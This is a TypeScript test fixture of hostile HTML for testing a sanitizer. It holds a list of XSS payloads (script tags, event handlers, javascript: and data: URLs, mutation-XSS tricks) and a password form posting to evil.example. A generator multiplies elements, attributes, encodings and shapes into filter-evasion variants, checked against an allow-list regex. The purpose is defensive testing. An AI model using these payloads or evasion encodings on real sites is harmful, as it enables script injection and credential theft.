/** Hostile HTML, for testing anything that writes or shows HTML. */

/** Known attacks. Each becomes text or nothing, or is refused as malformed. */
export const payloads = [
  '<script>alert(1)</script>',
  '<p onclick="alert(1)">a</p>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src=x onerror=alert(1)>',
  '<svg onload="alert(1)"><p>a</p></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"/></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" https://e.example/&quot; onmouseover=&quot;alert(1)">a</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a>',
  '<a href="//evil.example">a</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  '<object data="x"/><embed src="x"/>',
  '<form action="https://evil.example"><input name="password"/><button>Go</button></form>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0">a</p>',
  '<link rel="stylesheet" href="https://evil.example/a.css"/>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
  '<base href="https://evil.example"/>',
  '<img src="https://evil.example/pixel.png"/>',
  '<img src="/file/pub/../../api/user/logout"/>',
  '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>',
  '<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;">a</p></noscript>',
  '<template><img src="x" onerror="alert(1)"/></template>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>a</p>',
  '<!DOCTYPE p [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<constructor>a</constructor><__proto__>b</__proto__>',
  '<P ONCLICK="alert(1)">a</P>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
]

/** Elements that run, load, send, cover the page, swallow what follows, or are allowed. */
export const elements =
  'a p img b td table svg math animate iframe frame object embed applet form input button select textarea keygen video audio source track details marquee body html head link meta base style script template noscript xmp area dialog portal x-own'.split(
    ' ',
  )
const HANDLERS =
  'onclick onerror onload onmouseover onfocus ontoggle onbegin onanimationstart onpointerenter onbeforematch onfinish onpageshow'
const ADDRESSES = 'href src xlink:href action formaction data poster background srcset ping cite longdesc codebase to'
const away = [
  'javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;',
  '//evil.example/x.png',
  'http://evil.example/x.png',
]
/** Attributes set on them: code, addresses to navigate to or load from, and anything else that carries either. */
const settings: readonly (readonly [name: string, value: string])[] = [
  ...HANDLERS.split(' ').map((name) => [name, 'alert(1)'] as const),
  ...ADDRESSES.split(' ').flatMap((name) => away.map((value) => [name, value] as const)),
  ['style', 'position:fixed;inset:0;background:url(//evil.example/x)'],
  ['srcdoc', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['content', '0;url=javascript:alert(1)'],
  ['values', 'javascript:alert(1)'],
  ['is', 'x-own" onclick="alert(1)'],
]
const each = (text: string, write: (sign: number) => string): string =>
  text.replace(/&\w+;|./gs, (sign) => (sign.length > 1 ? sign : write(sign.codePointAt(0)!)))
/** Encodings of the same that a filter may misread. */
const spellings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[a-z]/g, (sign, at: number) => (at % 2 ? sign : sign.toUpperCase())),
  (text) => each(text, (sign) => `&#${sign};`),
  (text) => each(text, (sign) => `&#x${sign.toString(16)}`),
  (text) => text.replace(/(.{2})/, '$1&#9;').replace(/(.{9})/, '$1&NewLine;'),
  (text) => `&#1;&#32;${text}`,
  (text) => text.replace(/:/g, '&colon;').replace(/\(/g, '&lpar;'),
  (text) => `\u00a0\u2028${text}`,
]
const shapes: readonly ((tag: string, name: string, value: string) => string)[] = [
  (tag, name, value) => `<${tag} ${name}="${value}">a</${tag}>`,
  (tag, name, value) => `<${tag.toUpperCase()} ${name.toUpperCase()}='${value.replaceAll("'", '')}'>a</${tag}>`,
  (tag, name, value) => `<${tag}/${name}=${value.replace(/[\s"]/g, '')}>a</${tag}>`,
  (tag, name, value) => `<p title="x"><${tag} alt="&quot;>" ${name}="${value}">a</${tag}></p>`,
  (tag, name, value) => `<svg><desc><${tag} ${name}="${value}"/></desc></svg>`,
  (tag, name, value) => `<${tag} src="/file/pub/a.png" ${name}="${value}"/>`,
]
/** Every element with every attribute in every encoding and shape. */
function* everyHostile(): Generator<string> {
  for (const tag of elements)
    for (const [name, value] of settings)
      for (const spelt of spellings) for (const shaped of shapes) yield shaped(tag, name, spelt(value))
}

/** A sample of the hundreds of thousands in which all elements, attributes, encodings and shapes recur. */
export function someHostile(count: number): string[] {
  const all = [...everyHostile()]
  // A prime that does not divide the table's dimensions: neighbours in the sample have nothing in common.
  return Array.from({ length: count }, (_, at) => all[(at * 14_753) % all.length]!)
}

/** Every allowed tag as we write it, with only allow-listed attributes. */
export const written =
  /^(?:[^<>]|<\/?(?:p|br|hr|h3|h4|strong|b|em|i|u|s|ul|ol|li|blockquote|code|table|thead|tbody|tr|th|td)>|<\/a>|<a(?: href="(?:https:\/\/|mailto:|#\/)[^"<>]*")?(?: target="_blank" rel="noopener noreferrer nofollow")?>|<img(?: src="\/(?:api\/)?file\/pub\/[\w./-]+")?(?: alt="[^"<>]*")?>)*$/
